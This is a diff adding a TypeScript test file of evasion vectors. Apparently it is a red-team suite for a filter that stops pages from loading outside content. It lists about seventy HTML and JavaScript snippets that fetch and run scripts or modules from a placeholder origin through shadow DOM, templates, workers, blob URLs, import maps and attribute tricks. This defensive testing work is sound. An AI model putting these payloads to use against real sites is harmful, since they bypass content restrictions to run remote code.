@@ -1,0 +1,410 @@
+import { group, js } from '../vector.ts';
+
+// What a second attack of November 2026 found: shadow trees before they are in the page, own programs that are handed an address.
+
+const S = `var s=document.createElement('script');`;
+const D = `<div id="d">x</div>`;
+const F = `var f=document.createElement('iframe');document.body.append(f);`;
+const mod = `import '{{o}}/m.mjs'`;
+const file = (text: string) => ({ files: { 'own.js': text } });
+const own = `<script src="own.js"></script>`;
+const H = `var h=document.createElement('div'),r=h.attachShadow({mode:'open'});`;
+const HC = `var h=document.createElement('div'),r=h.attachShadow({mode:'closed'});`;
+const go = `<button id="go">go</button>`;
+
+export const again = group('again', [
+  ['image-behind-script', 'R', `<script>0</script><img src="{{o}}/p.gif">`],
+  ['shadow-detached-src-after', 'XR', js(`${H}${S}r.append(s);s.src='{{o}}/x.js';document.body.append(h)`)],
+  [
+    'shadow-detached-src-after-closed',
+    'XR',
+    js(`${HC}${S}r.append(s);s.src='{{o}}/x.js';document.body.append(h)`),
+  ],
+  [
+    'shadow-detached-text-after',
+    'XR',
+    js(
+      `${H}${S}r.append(s);s.textContent="import('"+'{{o}}'+"/m.mjs').catch(()=>{})";document.body.append(h)`,
+    ),
+  ],
+  [
+    'shadow-detached-deep',
+    'XR',
+    js(
+      `${H}var p=document.createElement('p');r.append(p);${S}p.append(s);s.src='{{o}}/x.js';var w=document.createElement('div');w.append(h);document.body.append(w)`,
+    ),
+  ],
+  [
+    'shadow-ce-constructor',
+    'XR',
+    js(
+      `customElements.define('x-a',class extends HTMLElement{constructor(){super();var r=this.attachShadow({mode:'open'});${S}r.append(s);s.src='{{o}}/x.js'}});document.body.append(document.createElement('x-a'))`,
+    ),
+  ],
+  [
+    'shadow-detached-svg-script',
+    'XR',
+    js(
+      `${H}var g=document.createElementNS('http://www.w3.org/2000/svg','svg'),s=document.createElementNS('http://www.w3.org/2000/svg','script');g.append(s);r.append(g);s.setAttribute('href','{{o}}/x.js');document.body.append(h)`,
+    ),
+  ],
+  [
+    'shadow-detached-attrnode',
+    'XR',
+    js(
+      `${H}${S}r.append(s);var a=document.createAttribute('src');a.value='{{o}}/x.js';s.setAttributeNode(a);document.body.append(h)`,
+    ),
+  ],
+  [
+    'shadow-clone-clonable',
+    'XR',
+    js(
+      `var h=document.createElement('div'),r=h.attachShadow({mode:'open',clonable:true});${S}r.append(s);s.src='{{o}}/x.js';document.body.append(h.cloneNode(true))`,
+    ),
+  ],
+  [
+    'template-dsd-clonable',
+    'XR',
+    `<template id="t"><div><template shadowrootmode="open" shadowrootclonable><script src="{{o}}/x.js"></script></template></div></template>${js(`document.body.append(t.content.cloneNode(true))`)}`,
+  ],
+  [
+    'template-dsd-import',
+    'XR',
+    `<template id="t"><div><template shadowrootmode="open" shadowrootclonable><script src="{{o}}/x.js"></script></template></div></template>${js(`document.body.append(document.importNode(t.content,true))`)}`,
+  ],
+  [
+    'template-dsd-adopt',
+    'XR',
+    `<template id="t"><div><template shadowrootmode="open"><script src="{{o}}/x.js"></script></template></div></template>${js(`document.body.append(t.content)`)}`,
+  ],
+  [
+    'template-dsd-adopt-image',
+    'R',
+    `<template id="t"><div><template shadowrootmode="open"><img src="{{o}}/p.gif"></template></div></template>${js(`document.body.append(t.content)`)}`,
+  ],
+  [
+    'template-dsd-adopt-link',
+    'R',
+    `<template id="t"><div><template shadowrootmode="open"><link rel="stylesheet" href="{{o}}/c.css"></template></div></template>${js(`document.body.append(t.content)`)}`,
+  ],
+  [
+    'template-dsd-closed',
+    'XR',
+    `<template id="t"><div><template shadowrootmode="closed"><script src="{{o}}/x.js"></script></template></div></template>${js(`document.body.append(t.content)`)}`,
+  ],
+  [
+    'template-set-html-unsafe',
+    'R',
+    js(
+      `var t=document.createElement('template');t.setHTMLUnsafe('<div><template shadowrootmode="open"><iframe src="{{o}}/f.html"></iframe></template></div>');document.body.append(t.content)`,
+    ),
+  ],
+  [
+    'nested-shadow-unsafe-frame',
+    'R',
+    js(
+      `var d=document.createElement('div');document.body.append(d);d.setHTMLUnsafe('<div><template shadowrootmode="open"><p><template shadowrootmode="open"><iframe src="{{o}}/f.html"></iframe></template></p></template></div>')`,
+    ),
+  ],
+  [
+    'nested-shadow-parse',
+    'R',
+    js(
+      `var m=Document.parseHTMLUnsafe('<div><template shadowrootmode="open"><p><template shadowrootmode="open"><iframe src="{{o}}/f.html"></iframe></template></p></template></div>');document.body.append(m.body.firstChild)`,
+    ),
+  ],
+  [
+    'set-named-item-connected',
+    'XR',
+    js(
+      `${S}document.body.append(s);var a=document.createAttribute('src');a.value='{{o}}/x.js';s.attributes.setNamedItem(a)`,
+    ),
+  ],
+  [
+    'set-named-item-ns-connected',
+    'XR',
+    js(
+      `${S}document.body.append(s);var a=document.createAttributeNS(null,'src');a.value='{{o}}/x.js';s.attributes.setNamedItemNS(a)`,
+    ),
+  ],
+  [
+    'set-named-item-frame',
+    'R',
+    js(`${F}var a=document.createAttribute('src');a.value='{{o}}/f.html';f.attributes.setNamedItem(a)`),
+  ],
+  [
+    'set-named-item-image',
+    'R',
+    js(
+      `var i=new Image(),a=document.createAttribute('src');a.value='{{o}}/p.gif';i.attributes.setNamedItem(a)`,
+    ),
+  ],
+  [
+    'set-named-item-srcset',
+    'R',
+    js(
+      `var i=new Image(),a=document.createAttribute('srcset');a.value='{{o}}/p.gif 1x';i.attributes.setNamedItem(a)`,
+    ),
+  ],
+  [
+    'script-adjacent-text',
+    'XR',
+    js(
+      `${S}document.body.append(s);s.insertAdjacentText('beforeend',"import('"+'{{o}}'+"/m.mjs').catch(()=>{})")`,
+    ),
+  ],
+  [
+    'script-range-text',
+    'XR',
+    js(
+      `${S}document.body.append(s);var r=document.createRange();r.selectNodeContents(s);r.insertNode(document.createTextNode("import('"+'{{o}}'+"/m.mjs').catch(()=>{})"))`,
+    ),
+  ],
+  [
+    'script-fragment-text',
+    'XR',
+    js(
+      `${S}document.body.append(s);var f=document.createDocumentFragment();f.append("import('"+'{{o}}'+"/m.mjs').catch(()=>{})");s.append(f)`,
+    ),
+  ],
+  [
+    'style-range-text',
+    'R',
+    `<style id="z"></style>${D}${js(`setTimeout(()=>{var r=document.createRange();r.selectNodeContents(z);r.insertNode(document.createTextNode('#d{background:url({{o}}/p.gif)}'))},80)`)}`,
+  ],
+  [
+    'style-fragment-text',
+    'R',
+    `<style id="z"></style>${D}${js(`setTimeout(()=>{var f=document.createDocumentFragment();f.append('#d{background:url({{o}}/p.gif)}');z.append(f)},80)`)}`,
+  ],
+  [
+    'import-escaped-slashes',
+    'XR',
+    js(`import("{{e}}\\/m.mjs").catch(()=>{})`.replace('{{e}}', 'https:\\/\\/{{h}}')),
+  ],
+  [
+    'import-escaped-variable',
+    'XR',
+    js(`var cfg={"module":"https:\\/\\/{{h}}\\/m.mjs"};import(cfg.module).catch(()=>{})`),
+  ],
+  [
+    'import-json-variable',
+    'XR',
+    `<script type="application/json" id="cfg">{"m":"{{o}}/m.mjs"}</script>${js(`import(JSON.parse(cfg.textContent).m).catch(()=>{})`)}`,
+  ],
+  [
+    'import-data-attribute',
+    'XR',
+    `<div id="d" data-src="{{o}}/m.mjs"></div>${js(`import(d.dataset.src).catch(()=>{})`)}`,
+  ],
+  ['import-link-href', 'XR', `<a id="d" href="{{o}}/m.mjs">x</a>${js(`import(d.href).catch(()=>{})`)}`],
+  ['import-esm-sh', 'XR', js(`const cdn='{{o}}';import(cdn+'/m.mjs').catch(()=>{})`)],
+  [
+    'import-data-encoded',
+    'XR',
+    js(`import('data:text/javascript,import%20%22{{o}}/m.mjs%22').catch(()=>{})`),
+  ],
+  [
+    'own-blob-module-script',
+    'XR',
+    own,
+    file(
+      `var s=document.createElement('script');s.type='module';s.src=URL.createObjectURL(new Blob(["${mod}"],{type:'text/javascript'}));document.head.append(s)`,
+    ),
+  ],
+  [
+    'own-blob-classic-script',
+    'XR',
+    own,
+    file(
+      `var s=document.createElement('script');s.src=URL.createObjectURL(new Blob(["import('{{o}}/m.mjs')"],{type:'text/javascript'}));document.head.append(s)`,
+    ),
+  ],
+  [
+    'importmap-escaped',
+    'XR',
+    `<script type="importmap">{"imports":{"lib":"https:\\/\\/{{h}}\\/m.mjs"}}</script><script type="module">import 'lib'</script>`,
+  ],
+  [
+    'importmap-classic-import',
+    'XR',
+    `<script type="importmap">{"imports":{"lib":"{{o}}/m.mjs"}}</script>${js(`import('lib').catch(()=>{})`)}`,
+  ],
+  [
+    'worklet-blob-import-own',
+    'R',
+    own,
+    file(
+      `new OfflineAudioContext(1,1,44100).audioWorklet.addModule(URL.createObjectURL(new Blob(['import "{{o}}/m.mjs"'],{type:'text/javascript'}))).catch(()=>{})`,
+    ),
+  ],
+  ['worklet-file-import', 'R', js(`CSS.paintWorklet.addModule('own.js').catch(()=>{})`), file(mod)],
+  [
+    'worker-own-opfs',
+    'S',
+    js(`new Worker('own.js')`),
+    file(`navigator.storage.getDirectory().then(d=>d.getFileHandle('{{n}}',{create:true}))`),
+  ],
+  [
+    'worker-own-idb-const',
+    'S',
+    js(`new Worker('own.js')`),
+    file(`const NAME='{{n}}';indexedDB.open(NAME,1)`),
+  ],
+  [
+    'worker-own-idb-wrapper',
+    'S',
+    js(`new Worker('own.js')`),
+    file(
+      `function openDB(n){return new Promise((ok,no)=>{const r=indexedDB.open(n,1);r.onsuccess=()=>ok(r.result)})}openDB('{{n}}')`,
+    ),
+  ],
+  ['worker-own-caches-const', 'S', js(`new Worker('own.js')`), file(`const C='{{n}}';caches.open(C)`)],
+  [
+    'worker-own-import-idb',
+    'S',
+    js(`new Worker('own.js')`),
+    {
+      files: {
+        'own.js': `importScripts('lib.js');openDB('{{n}}')`,
+        'lib.js': `function openDB(n){indexedDB.open(n,1)}`,
+      },
+    },
+  ],
+  [
+    'sw-cache-const',
+    'S',
+    js(`navigator.serviceWorker.register('own.js').catch(()=>{})`),
+    file(`const CACHE='{{n}}';self.oninstall=e=>e.waitUntil(caches.open(CACHE))`),
+  ],
+  [
+    'sw-query-address',
+    'XR',
+    js(`navigator.serviceWorker.register('own.js?u='+encodeURIComponent('{{o}}/x.js')).catch(()=>{})`),
+    file(`importScripts(new URL(location).searchParams.get('u'))`),
+  ],
+  [
+    'worker-import-dynamic',
+    'XR',
+    js(`new Worker('own.js',{type:'module'})`),
+    file(`const u='{{o}}/m.mjs';import(u)`),
+  ],
+  [
+    'worker-import-dynamic-classic',
+    'XR',
+    js(`new Worker('own.js')`),
+    file(`const u='{{o}}/m.mjs';import(u)`),
+  ],
+  [
+    'worker-message-importscripts',
+    'XR',
+    js(`var w=new Worker('own.js');w.postMessage('{{o}}/x.js')`),
+    file(`onmessage=e=>importScripts(e.data)`),
+  ],
+  [
+    'worker-message-fetch',
+    'R',
+    js(`var w=new Worker('own.js');w.postMessage('{{o}}/data')`),
+    file(`onmessage=e=>fetch(e.data).catch(()=>{})`),
+  ],
+  [
+    'worker-query-importscripts',
+    'XR',
+    js(`new Worker('own.js?'+encodeURIComponent('{{o}}/x.js'))`),
+    file(`importScripts(decodeURIComponent(location.search.slice(1)))`),
+  ],
+  [
+    'worker-name-importscripts',
+    'XR',
+    js(`new Worker('own.js',{name:'{{o}}/x.js'})`),
+    file(`importScripts(self.name)`),
+  ],
+  [
+    'worker-blob-module-dynamic',
+    'XR',
+    js(
+      `new Worker(URL.createObjectURL(new Blob(["const u='{{o}}'+'/m.mjs';import(u)"],{type:'text/javascript'})),{type:'module'})`,
+    ),
+  ],
+  [
+    'worker-blob-classic-dynamic-import',
+    'XR',
+    js(
+      `new Worker(URL.createObjectURL(new Blob(["const u='{{o}}'+'/m.mjs';import(u)"],{type:'text/javascript'})))`,
+    ),
+  ],
+  [
+    'shared-worker-message',
+    'R',
+    js(`var w=new SharedWorker('own.js');w.port.postMessage('{{o}}/data')`),
+    file(`onconnect=e=>{e.ports[0].onmessage=m=>fetch(m.data).catch(()=>{})}`),
+  ],
+  [
+    'link-rel-late',
+    'R',
+    js(
+      `var l=document.createElement('link');l.rel='x-late';l.href='{{o}}/c.css';document.head.append(l);setTimeout(()=>{l.rel='stylesheet'},50)`,
+    ),
+  ],
+  [
+    'link-rel-late-html',
+    'R',
+    `<link id="l" rel="lazy" href="{{o}}/c.css">${js(`addEventListener('load',()=>{l.rel='stylesheet'})`)}`,
+  ],
+  [
+    'link-rel-alternate-late',
+    'R',
+    `<link id="l" rel="subresource" href="{{o}}/c.css">${js(`addEventListener('load',()=>{l.setAttribute('rel','stylesheet')})`)}`,
+  ],
+  [
+    'link-rellist',
+    'R',
+    js(
+      `var l=document.createElement('link');l.rel='x';l.href='{{o}}/c.css';document.head.append(l);l.relList.add('stylesheet')`,
+    ),
+  ],
+  [
+    'link-relist-replace',
+    'R',
+    js(
+      `var l=document.createElement('link');l.rel='canonical';l.href='{{o}}/c.css';document.head.append(l);l.relList.value='stylesheet'`,
+    ),
+  ],
+  [
+    'anchor-download-click',
+    'R',
+    js(
+      `var a=document.createElement('a');a.href='{{o}}/data';a.download='x';document.body.append(a);a.click()`,
+    ),
+  ],
+  [
+    'document-open-three',
+    'R',
+    `${go}${js(`document.getElementById('go').onclick=()=>document.open('{{o}}/f.html','_blank','')`)}`,
+    { click: true },
+  ],
+  [
+    'option-index-set',
+    'XR',
+    `<select id="q"><option>a</option></select>${js(`var o=document.createElement('option');${S}s.src='{{o}}/x.js';o.append(s);q.options[0]=o`)}`,
+  ],
+  [
+    'pi-xml-stylesheet',
+    'R',
+    js(
+      `document.insertBefore(document.createProcessingInstruction('xml-stylesheet','href="{{o}}/c.css" type="text/css"'),document.documentElement)`,
+    ),
+  ],
+  [
+    'load-open-form-click',
+    'R',
+    `${js(`onload=()=>{document.open();document.write('<form action="{{o}}/f.html" target=fr><button id=go>x</button></form><iframe name=fr></iframe>');document.close()}`)}`,
+    { click: true },
+  ],
+  [
+    'javascript-href-click',
+    'XR',
+    `<a id="go" href="javascript:void(import('{{o}}/m.mjs'))">x</a>`,
+    { click: true },
+  ],
+]);
